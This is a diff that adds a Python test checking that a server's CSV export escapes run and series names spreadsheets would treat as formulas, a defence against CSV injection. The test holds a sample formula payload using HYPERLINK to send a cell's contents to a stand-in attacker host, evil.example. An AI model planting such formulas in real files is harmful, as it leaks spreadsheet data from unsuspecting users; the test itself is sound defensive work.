@@ -247,6 +247,26 @@ def test_several_runs_export_as_one_file_each_row_naming_its_run(server: ServerP
     assert status == 200 and body.decode().count(first) == 1
 
 
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    server: ServerProcess,
+) -> None:
+    """A run or series named by whoever holds an ingest token, opened by a teammate in a
+    spreadsheet: a cell that begins with =, +, -, @ is a formula there (CSV injection). The
+    CSV writes it after a quote mark; JSON Lines keeps it as sent."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    run_id = named_run(server, formula, {"@SUM(1)": [1.0], "-loss": [2.0], "loss": [-3.0]})
+    status, body = fetch(server, f"/api/v1/export?run={run_id}&name=@SUM(1)&name=-loss&name=loss")
+    assert status == 200
+    rows = list(csv.reader(io.StringIO(body.decode())))
+    assert [(r[1], r[2], r[5]) for r in rows[1:]] == [
+        ("'" + formula, "'@SUM(1)", "1.0"),
+        ("'" + formula, "'-loss", "2.0"),
+        ("'" + formula, "loss", "-3.0"),  # a negative value is a number, not a name
+    ]
+    status, body = fetch(server, f"/api/v1/export?run={run_id}&name=-loss&format=jsonl")
+    assert [json.loads(line)["run_name"] for line in body.splitlines()] == [formula]
+
+
 def test_unknown_runs_series_and_formats_are_refused_with_a_reason(
     server: ServerProcess,
 ) -> None:
